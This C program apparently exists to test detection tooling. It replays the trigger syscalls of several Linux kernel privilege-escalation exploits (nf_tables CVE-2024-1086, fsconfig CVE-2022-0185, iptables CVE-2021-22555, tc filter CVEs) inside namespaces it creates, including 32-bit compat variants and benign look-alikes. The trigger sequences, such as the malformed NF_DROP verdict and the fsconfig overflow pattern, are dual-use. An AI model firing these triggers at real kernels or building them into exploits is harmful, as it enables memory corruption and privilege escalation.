/* Stand-ins for CVE-2024-1086, CVE-2022-0185, CVE-2021-22555 and CVE-2022-2588/CVE-2023-3776:
 * the exploits' calls, with
 * their arguments, on namespaces this process makes for itself (they die with it).
 * usage: standin MODE TOKEN; MODE ends in "32" for the 32-bit (int $0x80) variant. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static long sys32(long nr, long a, long b, long c, long d, long e)
{
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                     : "memory");
    return ret;
}

/* -- netlink messages, nf_tables attributes (integers big-endian) -- */
static unsigned char buf[4096];
static size_t len;
static size_t put(const void *p, size_t n)
{
    size_t at = len;
    memcpy(buf + len, p, n);
    len += (n + 3) & ~3u;
    return at;
}
static size_t msg_begin(uint16_t type, uint16_t flags, uint8_t family, uint16_t res_id)
{
    struct nlmsghdr h = {.nlmsg_type = type, .nlmsg_flags = NLM_F_REQUEST | flags, .nlmsg_seq = 1};
    size_t at = put(&h, sizeof h);
    unsigned char nfgen[4] = {family, 0, (unsigned char)(res_id >> 8), (unsigned char)res_id};
    put(nfgen, 4);
    return at;
}
static void msg_end(size_t at) { ((struct nlmsghdr *)(buf + at))->nlmsg_len = len - at; }
static size_t nest(uint16_t type)
{
    uint16_t h[2] = {4, type | 0x8000 /* NLA_F_NESTED */};
    return put(h, 4);
}
static void nest_end(size_t at) { *(uint16_t *)(buf + at) = len - at; }
static void attr(uint16_t type, const void *p, uint16_t n)
{
    uint16_t h[2] = {4 + n, type};
    memcpy(buf + len, h, 4);
    memcpy(buf + len + 4, p, n);
    len += (4 + n + 3) & ~3u;
}
static void attr_str(uint16_t type, const char *s) { attr(type, s, strlen(s) + 1); }
static void attr_u32(uint16_t type, uint32_t v)
{
    v = htonl(v);
    attr(type, &v, 4);
}
static void attr_u32_host(uint16_t type, uint32_t v) { attr(type, &v, 4); }

#define NFT(m) ((10 << 8) | (m))
static void nft_batch(void)
{
    size_t m;
    msg_end(msg_begin(16 /* NFNL_MSG_BATCH_BEGIN */, 0, 0, 10));
    m = msg_begin(NFT(0) /* NEWTABLE */, NLM_F_CREATE | NLM_F_ACK, 2 /* NFPROTO_IPV4 */, 0);
    attr_str(1 /* NFTA_TABLE_NAME */, "se_cve");
    msg_end(m);
    m = msg_begin(NFT(3) /* NEWCHAIN */, NLM_F_CREATE | NLM_F_ACK, 2, 0);
    attr_str(1 /* NFTA_CHAIN_TABLE */, "se_cve");
    attr_str(3 /* NFTA_CHAIN_NAME */, "se_out");
    size_t hook = nest(4 /* NFTA_CHAIN_HOOK */);
    attr_u32(1 /* NFTA_HOOK_HOOKNUM */, 3 /* NF_INET_LOCAL_OUT */);
    attr_u32(2 /* NFTA_HOOK_PRIORITY */, 0);
    nest_end(hook);
    attr_str(7 /* NFTA_CHAIN_TYPE */, "filter");
    msg_end(m);
    /* the exploit's rule: immediate verdict NF_DROP carrying a "positive errno" */
    m = msg_begin(NFT(6) /* NEWRULE */, NLM_F_CREATE | NLM_F_APPEND | NLM_F_ACK, 2, 0);
    attr_str(1 /* NFTA_RULE_TABLE */, "se_cve");
    attr_str(2 /* NFTA_RULE_CHAIN */, "se_out");
    size_t exprs = nest(4 /* NFTA_RULE_EXPRESSIONS */), elem = nest(1 /* NFTA_LIST_ELEM */);
    attr_str(1 /* NFTA_EXPR_NAME */, "immediate");
    size_t data = nest(2 /* NFTA_EXPR_DATA */);
    attr_u32(1 /* NFTA_IMMEDIATE_DREG */, 0 /* NFT_REG_VERDICT */);
    size_t imm = nest(2 /* NFTA_IMMEDIATE_DATA */), verdict = nest(2 /* NFTA_DATA_VERDICT */);
    attr_u32(1 /* NFTA_VERDICT_CODE */, 0xffff0000u /* NF_DROP, errno bits set */);
    nest_end(verdict), nest_end(imm), nest_end(data), nest_end(elem), nest_end(exprs);
    msg_end(m);
    msg_end(msg_begin(17 /* NFNL_MSG_BATCH_END */, 0, 0, 10));
}
static void nft_list(void)
{
    msg_end(msg_begin(NFT(1) /* GETTABLE */, NLM_F_DUMP, 0 /* NFPROTO_UNSPEC */, 0));
}

static int send_netlink(int proto, int compat)
{
    static struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
    if (!compat) {
        int s = socket(AF_NETLINK, SOCK_RAW, proto);
        struct iovec iov = {buf, len};
        struct msghdr mh = {.msg_name = &kernel, .msg_namelen = sizeof kernel, .msg_iov = &iov,
                            .msg_iovlen = 1};
        return s < 0 || sendmsg(s, &mh, 0) < 0;
    }
    /* ia32 socket (359) and sendmsg (370), with the 32-bit msghdr and iovec */
    static uint32_t iov32[2], mh32[7];
    long s = sys32(359, AF_NETLINK, SOCK_RAW, proto, 0, 0);
    iov32[0] = (uint32_t)(uintptr_t)buf, iov32[1] = len;
    mh32[0] = (uint32_t)(uintptr_t)&kernel, mh32[1] = sizeof kernel;
    mh32[2] = (uint32_t)(uintptr_t)iov32, mh32[3] = 1;
    return s < 0 || sys32(370, s, (long)mh32, 0, 0, 0) < 0;
}

/* rtnetlink traffic control: a tcmsg on lo (ifindex 1), then attributes (host-endian) */
static void tc_msg(uint16_t type, uint16_t flags, uint32_t handle, uint32_t parent, uint32_t info,
                   const char *kind, uint16_t classid_attr)
{
    struct nlmsghdr h = {.nlmsg_type = type, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | flags,
                         .nlmsg_seq = 1};
    struct {
        unsigned char family, pad1;
        unsigned short pad2;
        int ifindex;
        uint32_t handle, parent, info;
    } tcm = {0, 0, 0, 1, handle, parent, info};
    len = 0;
    size_t at = put(&h, sizeof h);
    put(&tcm, sizeof tcm);
    attr_str(1 /* TCA_KIND */, kind);
    if (classid_attr) {
        size_t opts = nest(2 /* TCA_OPTIONS */);
        attr_u32_host(classid_attr, 0x10001 /* class 1:1 */);
        nest_end(opts);
    }
    msg_end(at);
}
/* CVE-2022-2588 (route, handle 0) and CVE-2023-3776 (fw): a qdisc (ingress: built into
 * this kernel, which has neither prio nor route/fw: the filter request fails with ENOENT), the filter, its deletion, each a request of its
 * own as the exploits send them (they use prio/htb; the filter messages are the same) */
static int tc_filter(const char *kind, int compat)
{
    const uint32_t root = 0xfffffff1u /* TC_H_INGRESS */, qdisc = 0xffff0000u;
    const uint32_t info = (1u << 16) | htons(0x0003 /* ETH_P_ALL */);
    tc_msg(36 /* RTM_NEWQDISC */, NLM_F_CREATE | NLM_F_EXCL, qdisc, root, 0, "ingress", 0);
    int err = send_netlink(0 /* NETLINK_ROUTE */, compat);
    if (kind == NULL) { /* the look-alike: the qdisc, then its removal */
        tc_msg(37 /* RTM_DELQDISC */, 0, qdisc, root, 0, "ingress", 0);
        return err | send_netlink(0, compat);
    }
    tc_msg(44 /* RTM_NEWTFILTER */, NLM_F_CREATE | NLM_F_EXCL, 0, qdisc, info, kind, 1);
    err |= send_netlink(0, compat);
    tc_msg(45 /* RTM_DELTFILTER */, 0, 0, qdisc, info, kind, 0);
    return err | send_netlink(0, compat);
}

static long call(int compat, long nr64, long nr32, long a, long b, long c, long d, long e)
{
    return compat ? sys32(nr32, a, b, c, d, e) : syscall(nr64, a, b, c, d, e);
}

static char key_empty[1], value_short[34], value_long[251], fs_ext4[] = "ext4";
static char fs_tmpfs[] = "tmpfs", key_size[] = "size", value_1m[] = "1m";
static char ipt_replace[3920] = "filter";

int main(int argc, char **argv)
{
    if (argc < 3)
        return 64;
    const char *mode = argv[1];
    int compat = strlen(mode) > 2 && strcmp(mode + strlen(mode) - 2, "32") == 0;
    if (!strncmp(mode, "nft", 3)) { /* nft, nft32, nfthost (host user namespace), nftlist */
        int host = !strcmp(mode, "nfthost");
        if (unshare((host ? 0 : CLONE_NEWUSER) | CLONE_NEWNET))
            return 2;
        if (!strcmp(mode, "nftlist"))
            nft_list();
        else
            nft_batch();
        return send_netlink(12 /* NETLINK_NETFILTER */, compat) ? 3 : 0;
    }
    if (!strncmp(mode, "fs", 2)) { /* fs, fs32: CVE-2022-0185; fstmpfs: mount -t tmpfs */
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
            return 2;
        if (!strcmp(mode, "fstmpfs")) {
            long fd = call(0, 430, 430, (long)fs_tmpfs, 0, 0, 0, 0);
            if (fd < 0 || call(0, 431, 431, fd, 1, (long)key_size, (long)value_1m, 0) < 0 ||
                call(0, 431, 431, fd, 6 /* FSCONFIG_CMD_CREATE */, 0, 0, 0) < 0 ||
                call(0, 432, 432, fd, 0, 0, 0, 0) < 0)
                return 3;
            return 0;
        }
        memset(value_short, 'A', 33);
        memset(value_long, 'A', 250);
        long fd = call(compat, 430, 430, (long)fs_ext4, 0, 0, 0, 0); /* fsopen */
        if (fd < 0)
            return 3;
        /* FSCONFIG_SET_STRING (1), the published exploit's empty key, then a long value */
        for (int i = 0; i < 3; i++)
            call(compat, 431, 431, fd, 1, (long)key_empty, (long)value_short, 0);
        call(compat, 431, 431, fd, 1, (long)key_size, (long)value_long, 0);
        return 0;
    }
    if (!strncmp(mode, "ipt", 3)) { /* ipt32, iptsocketcall: CVE-2021-22555; ipt: 64-bit */
        if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
            return 2;
        int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        if (s < 0)
            return 3;
        if (!strcmp(mode, "iptsocketcall")) {
            /* what a gcc -m32 build does: Debian's i386 C library calls setsockopt through
             * socketcall (102), SYS_SETSOCKOPT (14), its arguments in a 32-bit array */
            static uint32_t args[5];
            args[0] = s, args[1] = 0, args[2] = 64;
            args[3] = (uint32_t)(uintptr_t)ipt_replace, args[4] = sizeof ipt_replace;
            sys32(102, 14, (long)args, 0, 0, 0);
            return 0;
        }
        call(compat, SYS_setsockopt, 366, s, 0 /* SOL_IP */, 64 /* IPT_SO_SET_REPLACE */,
             (long)ipt_replace, sizeof ipt_replace);
        return 0;
    }
    if (!strncmp(mode, "tc", 2)) { /* tcroute, tcfw, tcfw32; tcqdisc: the look-alike */
        if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
            return 2;
        const char *kind = !strncmp(mode, "tcroute", 7) ? "route"
                           : !strncmp(mode, "tcfw", 4)  ? "fw"
                                                        : NULL;
        return tc_filter(kind, compat) ? 3 : 0;
    }
    if (!strcmp(mode, "sockopt32")) { /* a 32-bit SO_REUSEADDR inside unshare -Urn */
        static int one = 1;
        if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
            return 2;
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        return s < 0 || sys32(366, s, SOL_SOCKET, SO_REUSEADDR, (long)&one, sizeof one) < 0;
    }
    return 64;
}
